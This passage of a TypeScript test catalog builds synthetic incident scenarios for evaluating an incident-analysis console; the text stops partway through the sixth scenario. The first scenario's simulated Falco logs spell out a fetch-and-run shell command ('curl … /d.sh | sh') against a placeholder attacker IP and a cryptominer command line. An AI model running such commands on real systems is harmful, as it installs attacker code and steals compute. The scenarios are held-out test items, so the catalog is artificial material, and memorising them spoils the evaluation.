// Held-out fault scenarios, fifth set: a sixth catalog for the incident pipeline, written (like
// heldout-faults.ts and heldout-faults-2.ts to -4.ts) without reading how the console detects
// anomalies, groups incidents or analyses root causes, and frozen before its first run, so that
// it measures the product on faults nobody tuned it on. Same type and conventions as
// fault-catalog.ts: each scenario paints one fault onto buildScenario's 30-hour normal day (daily
// cycle, seeded noise, routine logs with the odd known error, health reports every 5 minutes
// declaring orders-db and session-cache), says when the fault starts hurting (its onset) and
// names the root-cause category an experienced SRE would file it under, or null for noise,
// which should open no incident.
//
// The faults differ from those of the earlier catalogs (no bad deploy with a TypeError, no
// refused, slow, deadlocked or read-only store, no configuration timeout, no OOM, fd or memory
// leak, no DNS failure, packet loss, MTU black hole or load-balancer reset, no load surge, no
// expired or incomplete certificate, no pool, queue, port, thread-pool, worker or burst-credit
// exhaustion, no crash loop, no disk full, no bad import, corrupted cache entry, migration NULLs
// or duplicate rows, no upstream rate limit, identity-provider or broker outage, no CPU steal,
// no endpoint, rate-limit, pool-size, feature-flag, JWT-key or clock setting, no regex
// backtracking or cache-key regression, no leaked API key). New here: a cryptominer started
// through a sandbox escape (security breach that looks like CPU exhaustion), a container CPU
// limit lowered by a Helm values change (configuration that looks like CPU exhaustion), a
// regional object-storage error spike, a network partition between two availability zones
// (network that looks like a database failure), a manual UPDATE that lost its WHERE clause,
// a check-then-insert race shipped in a release (code that looks like bad data), pod evictions
// under node memory pressure from a co-tenant (resource exhaustion that looks like a crash
// loop), and a tax provider changing its response format for unpinned clients (a dependency
// that looks like a code defect); and as noise an optional dependency's rollout absorbed by a
// circuit breaker and fallbacks, and the monitoring agent's own upgrade (a minute of missing
// data and a double-counted point).
//
// Every expectation comes from the fault's nature (what an on-call engineer would write in the
// postmortem), not from any guess about the console's rules. All data goes through the ingest
// APIs as a plugin and its agent would send it (metrics, including custom ones such as
// cpu.throttled-percent or node.memory-available-mib, log and change events, health reports with
// checks and declared dependencies); nothing is saved through the console's document routes.
// Onsets are at times of day (UTC) no earlier catalog uses, magnitudes from modest (errors
// +0.8 %) to severe (+12 %, CPU pinned), some abrupt and some building for hours.
import { MiB, buildScenario, logBurst, ramp, rng } from '../../rca/testing/build-scenario';
import { HOUR, MIN, atTimeOfDay, type FaultScenario, reportHealth, scattered } from './fault-catalog';
import { addCheck, addDependency, addSeries } from './agent-checks';

/** How long after its onset a fault's data ends, unless the scenario says otherwise. */
const AFTER_ONSET_MS = 30 * MIN;

const tsOf = (h: { report: { timestamp: string } }) => Date.parse(h.report.timestamp);
const reqId = (i: number, salt: number) => `req_${((i + 17) * 179_999 + salt * 37).toString(36)}`;
const orderId = (i: number, salt: number) => `ord_${100_000 + (((i + 11) * 9_341 + salt * 71) % 900_000)}`;
const sku = (i: number, salt: number) => `sku_${10_000 + (((i + 6) * 7_253 + salt) % 90_000)}`;
const cartId = (i: number, salt: number) => `crt_${(((i + 3) * 15_485_863 + salt * 13) % 99_999_989).toString(36)}`;

/** buildScenario's daily traffic shape (busy in the UTC afternoon, quiet at night), 0.2 to 0.9. */
const loadAt = (t: number) => 0.55 + 0.35 * Math.sin(((((t / HOUR) % 24) - 9) / 24) * 2 * Math.PI);

// ── 1. Cryptominer started through a sandbox escape ─────────────────────────────────────────
// Merchants preview their pricing rules through POST /v1/pricing-rules/preview, which runs the
// rule in a vm2 sandbox (vm2 3.9.19, the last release, with the known escape CVE-2023-37466).
// At 03:41 a trial merchant account sends a crafted rule that escapes the sandbox; the runtime
// security sensor (Falco, whose alerts the agent forwards) sees node spawn a shell, curl fetch a
// binary into /tmp and run it: kdevtmpfsi, the Kinsing Monero miner, talking stratum+tcp to a
// pool. From 03:55 it has all the container's CPU: CPU 20 → 98 % on the quiet night traffic,
// latency ×2.4, a few requests miss their deadline (errors +2.5 %). Nothing was deployed or
// changed, traffic is normal; it looks like CPU exhaustion, but the CPU is being stolen by an
// intruder's process: security breach.
const MINER_AT = atTimeOfDay(3, 55);
const ATTACKER_IP = '198.51.100.77';
const MINER_PID = 48_121;
const cryptominer: FaultScenario = {
  name: 'cryptominer-sandbox-escape',
  summary:
    'a crafted pricing rule escapes vm2 (CVE-2023-37466) and starts the kdevtmpfsi miner: CPU 20 → 98 % on normal night traffic, latency ×2.4, errors +2.5 %',
  timeline: MINER_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const exploit = onset - 14 * MIN + 7_000;
    const started = onset - 35_000;
    const j = rng(6011);
    const s = buildScenario(pluginId, now, 601, {
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = ramp(t, onset, MIN);
        if (m === 'cpu-usage') return v + (96.5 + 2.5 * j() - v) * k; // the miner takes every core it is given
        if (m === 'latency') return v * (1 + 1.4 * k) + 40 * k * j();
        if (m === 'response-time') return v * (1 + 1.2 * k);
        if (m === 'error-rate') return v + 0.025 * k;
        if (m === 'queue-depth') return v + Math.round(6 * k);
        return undefined;
      },
    });
    const r = rng(6012);
    addSeries(s, 'process.count', (t) => (t < exploit ? 7 + (r() < 0.05 ? 1 : 0) : t < started ? 8 : 9));
    const miner = `/tmp/kdevtmpfsi -o stratum+tcp://xmr.pool.example:3333 -u 4B7xQd…9fKp -p x --threads=4 --donate-level=0`;
    s.events.push(
      { pluginId, timestamp: onset - 23 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 4.9.3', data: { version: '4.9.3' } },
      {
        pluginId,
        timestamp: onset - 29 * HOUR + 4 * MIN,
        kind: 'log',
        level: 'warn',
        message: 'npm audit: 1 critical vulnerability (vm2 <=3.9.19: Sandbox Escape, GHSA-g644-9gfx-q4q4 / CVE-2023-37466; no fix available)',
      },
      ...logBurst(
        pluginId,
        s.from + 3 * MIN,
        exploit - MIN,
        1 / 20,
        'info',
        (i) => `POST /v1/pricing-rules/preview 200 in ${14 + (i % 9) * 3} ms (merchant mer_${20_400 + ((i * 37) % 500)}, rule ${180 + ((i * 53) % 400)} chars)`,
      ),
      {
        pluginId,
        timestamp: exploit,
        kind: 'log',
        level: 'info',
        message: `POST /v1/pricing-rules/preview 200 in 41 ms (merchant mer_90133, trial account created 03:22, client ${ATTACKER_IP}, rule 2311 chars)`,
      },
      {
        pluginId,
        timestamp: exploit + 1_200,
        kind: 'log',
        level: 'warn',
        message: `Falco Notice: Shell spawned by untrusted binary (user=node parent=node shell=sh cmdline=sh -c curl -fsSL http://${ATTACKER_IP}/d.sh | sh container=orders-api image=registry.internal/orders-api:4.9.3)`,
      },
      {
        pluginId,
        timestamp: exploit + 3_900,
        kind: 'log',
        level: 'warn',
        message: `Falco Notice: Launch Ingress Remote File Copy Tools in Container (user=node command=curl -fsSL -o /tmp/kdevtmpfsi http://${ATTACKER_IP}/kdevtmpfsi container=orders-api)`,
      },
      {
        pluginId,
        timestamp: started,
        kind: 'log',
        level: 'error',
        message: `Falco Critical: Drop and execute new binary in container (proc_exe=/tmp/kdevtmpfsi pid=${MINER_PID} parent=sh user=node container=orders-api image=registry.internal/orders-api:4.9.3)`,
      },
      {
        pluginId,
        timestamp: started + 9_000,
        kind: 'log',
        level: 'error',
        message: `Falco Critical: Possible miner running (command=${miner} pid=${MINER_PID} container=orders-api)`,
      },
      ...logBurst(
        pluginId,
        started + 40_000,
        now + 1,
        1 / 5,
        'warn',
        () => `Egress: connection from pid ${MINER_PID} (kdevtmpfsi) to ${ATTACKER_IP}:3333 not in the egress allowlist (mode audit: logged, not blocked)`,
      ),
      ...logBurst(
        pluginId,
        onset + 30_000,
        now + 1,
        2,
        'warn',
        () => `Event loop delay p99 ${Math.round(420 + j() * 380)} ms over the last 30 s (threshold 200 ms)`,
      ),
      ...logBurst(
        pluginId,
        onset + MIN,
        now + 1,
        2,
        'error',
        (i) => `Request ${reqId(i, 11)} GET /v1/orders/${orderId(i, 11)} exceeded its 2000 ms deadline (${1_650 + (i % 9) * 40} ms waiting for CPU)`,
      ),
    );
    addCheck(s, 'security:runtime', (t) => {
      if (t < exploit) return { status: 'passed', data: { sensor: 'falco 0.37.1', alertsLastHour: 0 } };
      if (t < started)
        return { status: 'warning', message: 'Falco: shell spawned by node in container orders-api', data: { sensor: 'falco 0.37.1', alertsLastHour: 2 } };
      return {
        status: 'failed',
        message: `unexpected process /tmp/kdevtmpfsi (pid ${MINER_PID}, user node) using 3.9 CPUs; outbound stratum+tcp connection to ${ATTACKER_IP}:3333`,
        data: { sensor: 'falco 0.37.1', process: 'kdevtmpfsi', pid: MINER_PID },
      };
    });
    reportHealth(s, onset + 3 * MIN, 'degraded', 'CPU 98% with night-time traffic; unexpected process kdevtmpfsi running in the container');
    return s;
  },
  expected: { category: 'security-breach', mentions: /kdevtmpfsi|miner|stratum|vm2|CVE-2023-37466|Falco/i },
};

// ── 2. Container CPU limit lowered by a Helm values change ──────────────────────────────────
// At 14:14 Argo CD syncs a refactor of the plugin's Helm chart ("move resource settings to
// values-common.yaml"); the common file carries the staging values, so production's
// resources.limits.cpu goes from 2000m to 500m. The rollout replaces the three pods within a
// minute and a half, in the middle of the afternoon peak: each pod now gets half a CPU, the CFS
// quota throttles it in ~70 % of its 100 ms periods, CPU reads 97-99 % (of the new limit),
// latency ×3 with long tails, requests miss their deadline (errors +5 %). The autoscaler adds
// two pods and hits its maximum, which softens but does not cure it. Traffic is normal and
// nothing else changed: it looks like CPU exhaustion, but the capacity was taken away by a
// setting, and reverting it is the fix: configuration.
const LIMIT_AT = atTimeOfDay(14, 15);
const cpuLimitLowered: FaultScenario = {
  name: 'cpu-limit-lowered',
  summary:
    'Argo CD sync sets resources.limits.cpu 2000m → 500m: CFS throttling 1 → 70 % of periods, CPU pinned at its limit, latency ×3, errors +5 %, traffic normal',
  timeline: LIMIT_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const change = onset - 50_000;
    const pods = [onset - 25_000, onset + 15_000, onset + 55_000]; // rolling update, one pod at a time
    const podNames = ['orders-api-7b5c9-hq2vd', 'orders-api-7b5c9-lw8rk', 'orders-api-7b5c9-z4xnf'];
    const replaced = (t: number) => pods.filter((p) => t >= p).length / pods.length;
    const scaled = [onset + 3 * MIN + 20_000, onset + 8 * MIN + 40_000];
    const relief = (t: number) => 1 - 0.15 * scaled.filter((x) => t >= x + MIN).length;
    const j = rng(6021);
    const s = buildScenario(pluginId, now, 602, {
      metric: (m, t, v) => {
        const x = replaced(t);
        if (x === 0) return undefined;
        if (m === 'cpu-usage') return v + (97 + 2 * j() - v) * x; // reported against the (new) limit
        const k = x * relief(t);
        if (m === 'latency') return v * (1 + 2.2 * k) + 70 * k * j();
        if (m === 'response-time') return v * (1 + 1.8 * k);
        if (m === 'error-rate') return v + 0.05 * k;
        if (m === 'queue-depth') return v + Math.round(12 * k);
        if (m === 'throughput') return v * (1 - 0.04 * k);
        if (m === 'connection-count') return Math.round(v * (1 + 0.3 * k));
        return undefined;
      },
    });
    const r = rng(6022);
    addSeries(s, 'cpu.throttled-percent', (t) => {
      const x = replaced(t);
      return x === 0 ? 0.3 + 1.5 * r() : x * (62 + 14 * r()) * (t >= scaled[1] + MIN ? 0.9 : 1);
    });
    s.events.push(
      { pluginId, timestamp: onset - 19 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 2.22.1', data: { version: '2.22.1' } },
      {
        pluginId,
        timestamp: onset - 23 * HOUR,
        kind: 'config-change',
        level: 'info',
        message: 'Deployment orders-api updated by argocd (app orders-api-prod, revision 51c0e7a): env.OTEL_TRACES_SAMPLER_ARG 0.05 → 0.1',
        data: { source: 'argocd', revision: '51c0e7a', changes: [{ path: 'env.OTEL_TRACES_SAMPLER_ARG', from: '0.05', to: '0.1' }] },
      },
      {
        pluginId,
        timestamp: change,
        kind: 'config-change',
        level: 'info',
        message:
          'Deployment orders-api updated by argocd (app orders-api-prod, revision 8d41c2e "helm: move resource settings to values-common.yaml"): resources.limits.cpu 2000m → 500m, resources.requests.cpu 1000m → 250m',
        data: {
          source: 'argocd',
          revision: '8d41c2e',
          changes: [
            { path: 'resources.limits.cpu', from: '2000m', to: '500m' },
            { path: 'resources.requests.cpu', from: '1000m', to: '250m' },
          ],
        },
      },
      ...pods.flatMap((p, i) => [
        {
          pluginId,
          timestamp: p,
          kind: 'restart' as const,
          level: 'info' as const,
          message: `Restarted: pod ${podNames[i]} created by rollout of revision 8d41c2e`,
        },
        {
          pluginId,
          timestamp: p + 4_000,
          kind: 'log' as const,
          level: 'info' as const,
          message: `Server listening on 0.0.0.0:8080 (version 2.22.1, node v20.11.1, cgroup cpu.max "50000 100000", os.availableParallelism() 1)`,
        },
      ]),
      {
        pluginId,
        timestamp: scaled[0],
        kind: 'scale',
        level: 'info',
        message: 'Autoscaler added an instance (3 → 4): cpu-usage 98% above the 65% target',
      },
      {
        pluginId,
        timestamp: scaled[1],
        kind: 'scale',
        level: 'info',
        message: 'Autoscaler added an instance (4 → 5): cpu-usage 97% above the 65% target',
      },
      ...logBurst(
        pluginId,
        scaled[1] + 2 * MIN,
        now + 1,
        1 / 5,
        'warn',
        () => 'HorizontalPodAutoscaler orders-api: desired replicas 9 capped at maxReplicas 5 (cpu-usage 96% of request)',
      ),
      ...logBurst(
        pluginId,
        onset + 20_000,
        now + 1,
        2,
        'warn',
        () => `Event loop delay p99 ${Math.round(380 + j() * 420)} ms over the last 30 s (threshold 200 ms)`,
      ),
      ...logBurst(pluginId, onset + 40_000, now + 1, 5, 'error', (i) =>
        i % 4 === 3
          ? `504 Gateway Timeout for GET /v1/catalog?page=${(i % 30) + 1} (${reqId(i, 21)}): upstream timed out (110: Connection timed out) while reading response header from upstream`
          : `Request ${reqId(i, 22)} ${i % 2 ? 'POST /v1/checkout' : `GET /v1/products/${sku(i, 22)}`} exceeded its 2000 ms deadline`,
      ),
    );
    addCheck(s, 'container:cpu-throttling', (t) => {
      const x = replaced(t);
      if (x === 0) return { status: 'passed', data: { cpuMax: '200000 100000', throttledPercent: 1 } };
      return {
        status: x === 1 ? 'failed' : 'warning',
        message: `throttled in ${Math.round(68 * x)}% of CFS periods (cpu.max "50000 100000": 0.5 CPU)`,
        data: { cpuMax: '50000 100000', throttledPercent: Math.round(68 * x) },
      };
    });
    reportHealth(s, onset + 2 * MIN, 'degraded', 'p95 latency 1.4 s above the 250 ms objective; CPU at 98% of its limit, throttled in 70% of periods');
    return s;
  },
  expected: { category: 'configuration', mentions: /limits\.cpu|cpu limit|500m|8d41c2e/i },
};

// ── 3. Regional object-storage error spike ───────────────────────────────────────────────────
// Seller images and invoice PDFs live in the S3 bucket acme-media-prod (eu-central-1), declared
// by the agent as the dependency object-storage. At 19:50 the provider has an incident in the
// region: about a third of PutObject and GetObject calls fail with 500 InternalError or 503
// SlowDown / ServiceUnavailable even after the SDK's three attempts. Seller uploads and invoice
// downloads fail (errors +4.5 %), retries with back-off add latency (+300 ms), thumbnail jobs
// wait for their retry. The "reduce your request rate" wording suggests the plugin is flooding
// the bucket, but its request rate is the usual one (storage.s3-requests): the provider's
// service is failing, and the plugin changed nothing: dependency failure.
const S3_AT = atTimeOfDay(19, 50);
const OBJECT_STORAGE = { id: 'object-storage', host: 'acme-media-prod.s3.eu-central-1.amazonaws.com', port: 443 };
const objectStorageErrors: FaultScenario = {
  name: 'object-storage-regional-errors',
  summary:
    'S3 in eu-central-1 fails a third of PUT/GET calls (500 InternalError, 503 SlowDown) after SDK retries: uploads and invoice downloads fail, errors +4.5 %, latency +300 ms',
  timeline: S3_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const j = rng(6031);
    const s = buildScenario(pluginId, now, 603, {
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = ramp(t, onset, 2 * MIN);
        if (m === 'error-rate') return v + (0.04 + 0.01 * j()) * k;
        if (m === 'latency') return v + 300 * k; // the SDK's retries with back-off before giving up
        if (m === 'response-time') return v + 120 * k;
        if (m === 'queue-depth') return v + Math.round(9 * ramp(t, onset, 15 * MIN)); // thumbnail jobs waiting for their retry
        if (m === 'connection-count') return Math.round(v + 6 * k);
        return undefined;
      },
    });
    const r = rng(6032);
    addSeries(s, 'storage.s3-requests', (t) => Math.round(40 + 150 * loadAt(t) + 20 * r()));
    addSeries(s, 'storage.s3-error-percent', (t) => (t < onset ? 0.1 * r() : ramp(t, onset, 2 * MIN) * (27 + 10 * r())));
    const requestId = (i: number) =>
      `${((i + 5) * 2_654_435_761).toString(36).toUpperCase().padStart(8, 'Q').slice(0, 8)}${(i * 7919).toString(36).toUpperCase()}`;
    s.events.push(
      { pluginId, timestamp: onset - 16 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 5.9.0', data: { version: '5.9.0' } },
      ...scattered(
        pluginId,
        onset - 27 * HOUR,
        onset - 2 * HOUR,
        3,
        6033,
        'warn',
        (i) =>
          `S3 PutObject acme-media-prod: attempt 1 failed with 503 SlowDown (Please reduce your request rate.), retried: attempt 2 succeeded (${reqId(i, 30)})`,
      ),
      ...logBurst(
        pluginId,
        s.from + 2 * MIN,
        onset,
        1 / 4,
        'info',
        (i) =>
          `Uploaded sellers/sel_${3_100 + ((i * 17) % 800)}/img_${(i * 48_271).toString(36)}.jpg to acme-media-prod (${180 + ((i * 29) % 300)} KiB) in ${70 + (i % 11) * 6} ms`,
      ),
      ...logBurst(
        pluginId,
        onset,
        now + 1,
        5,
        'warn',
        (i) =>
          `S3 ${i % 2 ? 'GetObject' : 'PutObject'} acme-media-prod: attempt ${(i % 2) + 1} failed with ${i % 3 === 0 ? '503 SlowDown' : '500 InternalError'}, retrying in ${100 * 2 ** (i % 2) + Math.round(j() * 90)} ms`,
      ),
      ...logBurst(
        pluginId,
        onset + 15_000,
        now + 1,
        6,
        'error',
        (i) =>
          [
            `PutObject s3://acme-media-prod/sellers/sel_${3_100 + ((i * 23) % 800)}/img_${(i * 69_621).toString(36)}.jpg failed after 3 attempts (totalRetryDelay ${600 + (i % 7) * 55} ms, ${reqId(i, 31)}): InternalError: We encountered an internal error. Please try again. (HTTP 500, RequestId ${requestId(i)})`,
            `GET /v1/invoices/inv_${70_000 + ((i * 41) % 9_000)}.pdf 502 (${reqId(i, 32)}): GetObject s3://acme-media-prod/invoices/inv_${70_000 + ((i * 41) % 9_000)}.pdf failed after 3 attempts: ServiceUnavailable: Reduce your request rate. (HTTP 503)`,
            `POST /v1/sellers/sel_${3_100 + ((i * 31) % 800)}/images 502 (${reqId(i, 33)}): upload to object storage failed: SlowDown: Please reduce your request rate. (HTTP 503, RequestId ${requestId(i + 1)})`,
          ][i % 3],
      ),
    );
    addDependency(s, OBJECT_STORAGE, (t) =>
      t >= onset - 30_000
        ? { status: 'degraded', message: 'PutObject/GetObject failing on ~30% of calls (500 InternalError, 503 SlowDown) at the usual 2-3 requests/s' }
        : undefined,
    );
    reportHealth(
      s,
      onset + 2 * MIN,
      'degraded',
      'dependency object-storage is degraded: ~30% of S3 PUT/GET calls failing (500/503); seller uploads and invoice downloads failing',
    );
    return s;
  },
  expected: { category: 'dependency-failure', mentions: /object-storage|S3|acme-media-prod|InternalError/i },
};

// ── 4. Network partition between two availability zones ──────────────────────────────────────
// The plugin runs four instances, two in eu-central-1a and two in eu-central-1b; the primaries
// of orders-db (10.0.4.7) and session-cache (10.0.6.12) are in 1b. At 05:05 the provider's
// network between the two zones fails: the 1a instances can no longer open or use connections
// to anything in 1b, while everything inside each zone works. The load balancer keeps sending
// traffic to the 1a instances (their /healthz does not touch the database), whose requests wait
// for the 5 s connect timeout and fail: errors +12 %, latency +750 ms, connections down. The
// agent reports orders-db and session-cache degraded ("unreachable from eu-central-1a"), which
// reads like a database failure; but both serve the 1b instances normally, and the agent's
// cross-zone probes lose every packet in both directions: network issue.
const ZONE_AT = atTimeOfDay(5, 5);
const PODS_1A = ['orders-api-7c9d4-a1xqv', 'orders-api-7c9d4-a7mkp'];
const PODS_1B = ['orders-api-7c9d4-b3ztn', 'orders-api-7c9d4-b9wrc'];
const zonePartition: FaultScenario = {
  name: 'zone-partition',
  summary:
    'eu-central-1a loses connectivity to eu-central-1b: the 1a instances time out to orders-db and session-cache (primaries in 1b), 1b instances fine; errors +12 %, latency +750 ms',
  timeline: ZONE_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const j = rng(6041);
    const s = buildScenario(pluginId, now, 604, {
      dependency: (d, t) =>
        t >= onset
          ? {
              status: 'degraded',
              message: `unreachable from eu-central-1a instances: connect ETIMEDOUT ${d === 'orders-db' ? '10.0.4.7:5432' : '10.0.6.12:6379'}; reachable from eu-central-1b instances`,
            }
          : undefined,
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = ramp(t, onset, MIN);
        if (m === 'error-rate') return v + (0.11 + 0.02 * j()) * k;
        if (m === 'latency') return v + (700 + 110 * j()) * k; // requests on the 1a instances wait for the 5 s connect timeout
        if (m === 'response-time') return v + 260 * k;
        if (m === 'connection-count') return Math.round(v * (1 - 0.45 * k)); // the 1a pools are empty
        if (m === 'throughput') return v * (1 - 0.05 * k);
        return undefined;
      },
    });
    const r = rng(6042);
    addSeries(s, 'net.cross-zone-probe-loss-percent', (t) => (t < onset ? (r() < 0.03 ? 8.3 : 0) : 100));
    const podA = (i: number) => PODS_1A[i % 2];
    s.events.push(
      { pluginId, timestamp: onset - 12 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 13.2.0', data: { version: '13.2.0' } },
      ...logBurst(
        pluginId,
        onset + 5_000,
        now + 1,
        9,
        'error',
        (i) =>
          [
            `[${podA(i)} eu-central-1a] Query failed for ${reqId(i, 41)}: connect ETIMEDOUT 10.0.4.7:5432 (orders-db.internal)`,
            `[${podA(i)} eu-central-1a] Redis session-cache.internal:6379: connect ETIMEDOUT 10.0.6.12:6379, reconnecting (attempt ${(i % 5) + 1})`,
            `[${podA(i)} eu-central-1a] GET /v1/orders/${orderId(i, 42)} 503 (${reqId(i, 42)}): Knex: Timeout acquiring a connection. The pool is probably full. Are you missing a .transacting(trx) call?`,
            `[${podA(i)} eu-central-1a] Query failed for ${reqId(i, 43)}: Connection terminated due to connection timeout (orders-db.internal:5432)`,
          ][i % 4],
      ),
      ...logBurst(
        pluginId,
        onset + 10_000,
        now + 1,
        2,
        'info',
        (i) => `[${PODS_1B[i % 2]} eu-central-1b] GET /v1/orders/${orderId(i, 44)} 200 ${40 + ((i * 13) % 30)}ms`,
      ),
      ...logBurst(
        pluginId,
        onset + 30_000,
        now + 1,
        1,
        'warn',
        () =>
          'Zone probe: eu-central-1a → eu-central-1b 12 of 12 TCP probes timed out (10.0.4.7:5432, 10.0.6.12:6379, 10.0.5.20:8080); eu-central-1b → eu-central-1a 12 of 12 timed out; within each zone 0 lost',
      ),
      ...logBurst(
        pluginId,
        onset + 45_000,
        now + 1,
        1 / 5,
        'info',
        (i) => `Load balancer target ${PODS_1A[i % 2]} (eu-central-1a) healthy: GET /healthz 200 in 3 ms`,
      ),
    );
    addCheck(s, 'net:zone-connectivity', (t) =>
      t < onset
        ? { status: 'passed', data: { zones: ['eu-central-1a', 'eu-central-1b'], crossZoneLossPercent: 0 } }
        : {
            status: 'failed',
            message: 'eu-central-1a ↔ eu-central-1b: 100% of probes lost in both directions; intra-zone probes fine',
            data: { zones: ['eu-central-1a', 'eu-central-1b'], crossZoneLossPercent: 100, affectedInstances: PODS_1A },
          },
    );
    reportHealth(
      s,
      onset + 40_000,
      'degraded',
      '2 of 4 instances (eu-central-1a) cannot reach orders-db or session-cache: connect ETIMEDOUT; eu-central-1b instances fine',
    );
    return s;
  },
  expected: { category: 'network-issue', mentions: /zone|eu-central-1a|partition|ETIMEDOUT/i },
};

// ── 5. A manual UPDATE that lost its WHERE clause ───────────────────────────────────────────
// A support engineer fixes one merchant's shipping zone from the bastion with psql at 09:51.
// The statement is pasted without its last line, "WHERE merchant_id = 'mer_20871'", and psql
// runs it in autocommit: all 9 412 rows of shipping_rates now belong to zone 14 (Austria). The
// database audit log (pgaudit, forwarded by the agent) records "UPDATE … 9412 rows". At 09:55
// the plugin's shipping-rate cache refreshes: every destination except Austria has no rate,
// quotes and checkouts fail with ShippingRateNotFoundError (errors +4 %), everything else is
// normal; no deploy, no setting changed, orders-db healthy. Wrong rows written by hand, repaired
// from the point-in-time backup: data corruption.
const UPDATE_AT = atTimeOfDay(9, 55);
const DESTINATIONS: [string, number][] = [
  ['DE', 3],
  ['FR', 5],
  ['NL', 7],
  ['BE', 8],
  ['IT', 11],
  ['ES', 12],
  ['PL', 19],
  ['DK', 22],
];
const manualUpdate: FaultScenario = {
  name: 'manual-update-without-where',
  summary:
    'a psql fix-up runs UPDATE shipping_rates SET zone_id = 14 without its WHERE clause (9 412 rows): no rates for any destination but AT, checkouts fail, errors +4 %',
  timeline: UPDATE_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const statement = onset - 3 * MIN - 41_000;
    const s = buildScenario(pluginId, now, 605, {
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = ramp(t, onset, MIN); // each instance refreshes its cache within the minute
        if (m === 'error-rate') return v + (0.035 + 0.01 * ramp(t, onset, AFTER_ONSET_MS)) * k;
        if (m === 'response-time') return v * (1 - 0.04 * k); // failed quotes answer fast
        if (m === 'throughput') return v * (1 + 0.03 * k); // shoppers retry
        return undefined;
      },
    });
    const refreshes: number[] = [];
    for (let t = Math.ceil(s.from / (5 * MIN)) * 5 * MIN; t + 2_000 <= now; t += 5 * MIN) refreshes.push(t);
    const audit = (t: number, n: number, cls: string, cmd: string, sql: string, rows: number) => ({
      pluginId,
      timestamp: t,
      kind: 'other' as const,
      level: 'info' as const,
      message: `pgaudit orders-db: AUDIT: SESSION,${n},1,${cls},${cmd},TABLE,public.shipping_rates,"${sql}",<not logged>,${rows} (user m.keller, application psql, client 10.0.1.5 bastion-1)`,
      data: { source: 'pgaudit', database: 'orders-db', user: 'm.keller', table: 'shipping_rates', command: cmd, rows },
    });
    s.events.push(
      { pluginId, timestamp: onset - 22 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 8.11.4', data: { version: '8.11.4' } },
      audit(statement - 95_000, 1, 'READ', 'SELECT', "SELECT id, zone_id, carrier FROM shipping_rates WHERE merchant_id = 'mer_20871'", 12),
      audit(statement, 2, 'WRITE', 'UPDATE', 'UPDATE shipping_rates SET zone_id = 14, updated_at = now()', 9_412),
      ...refreshes.map((t) => ({
        pluginId,
        timestamp: t + 2_000,
        kind: 'log' as const,
        level: 'info' as const,
        message:
          t >= onset
            ? 'Shipping rate cache refreshed from orders-db: 9412 rates in 1 zone'
            : 'Shipping rate cache refreshed from orders-db: 9412 rates in 38 zones',
      })),
      ...logBurst(pluginId, onset + 10_000, now + 1, 5, 'error', (i) => {
        const [cc, zone] = DESTINATIONS[i % DESTINATIONS.length];
        return i % 2 === 0
          ? `POST /v1/checkout 500 (${reqId(i, 51)}): ShippingRateNotFoundError: no shipping rate for zone ${zone} (${cc}, carrier ${['dhl-paket', 'dpd-classic', 'gls-business'][i % 3]}, ${(0.4 + (i % 12) * 0.35).toFixed(1)} kg) for ${orderId(i, 51)}`
          : `GET /v1/cart/${cartId(i, 52)}/shipping-options 500 (${reqId(i, 52)}): no shipping options for destination ${cc}: 0 rates in zone ${zone}`;
      }),
    );
    reportHealth(s, onset + 3 * MIN, 'degraded', 'checkout failing for every destination except AT: no shipping rates found');
    return s;
  },
  expected: { category: 'data-corruption', mentions: /shipping_rates|shipping rate|UPDATE|WHERE/i },
};

// ── 6. A release with a check-then-insert race ──────────────────────────────────────────────
// Version 7.3.0 (17:22) makes payment capture asynchronous: the checkout handler records the
// payment when the provider answers, and a new worker records it when the provider's webhook
// arrives, each after checking that no row exists, without a lock or an upsert. When the webhook
// beats the response the second insert hits the unique key: "duplicate key value violates unique
// constraint payments_order_id_key" (23505), and the customer sees a 500 although the payment
// went through. Rare at first, more frequent as the evening peak raises concurrency: errors
// +0.8 % growing to +2 %. The errors name a constraint and a duplicate, as if the data were bad,
// but the data is consistent (one payment per order): the new code races. The previous version
// ran a day without it; rolling back fixes it: code defect.
const RACE_AT = atTimeOfDay(17, 35);
const captureRace: FaultScenario = {
  name: 'payment-capture-race-deploy',
  summary:
    'deploy 7.3.0 lets the webhook worker and the checkout handler both insert the payment row: duplicate key on payments_order_id_key, errors +0.8 → +2 % with the evening peak',
  timeline: RACE_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const deploy = onset - 13 * MIN;
    const s = buildScenario(pluginId, now, 606, {
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = ramp(t, onset, 2 * MIN);
        if (m === 'error-rate') return v + (0.008 + 0.012 * ramp(t, onset, AFTER_ONSET_MS)) * k;
        if (m === 'latency') return v * (1 + 0.06 * k); // confirmations retried by the clients
        if (m === 'throughput') return v * (1 + 0.02 * k);
        return undefined;
      },
    });
    const r = rng(6061);
    addSeries(s, 'payments.unique-violations', (t) => {
      if (t < deploy + 2 * MIN) return 0;
      if (t < onset) return r() < 0.25 ? 1 : 0;
      return Math.round((3 + 9 * ramp(t, onset, AFTER_ONSET_MS)) * (0.7 + 0.6 * r()));
    });
    const dup = (i: number, salt: number) => {
      const o = orderId(i, salt);
      return `duplicate key value violates unique constraint "payments_order_id_key" (SQLSTATE 23505) DETAIL: Key (order_id)=(${o}) already exists.`;
    };
    s.events.push(
      { pluginId, timestamp: onset - 25 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 7.2.4', data: { version: '7.2.4' } },
      {
        pluginId,
        timestamp: deploy,
        kind: 'deploy',
        level: 'info',
        message: 'Deployed version 7.3.0 (asynchronous payment capture worker)',
        data: { version: '7.3.0', previous: '7.2.4', commit: 'f3a90c6' },
      },
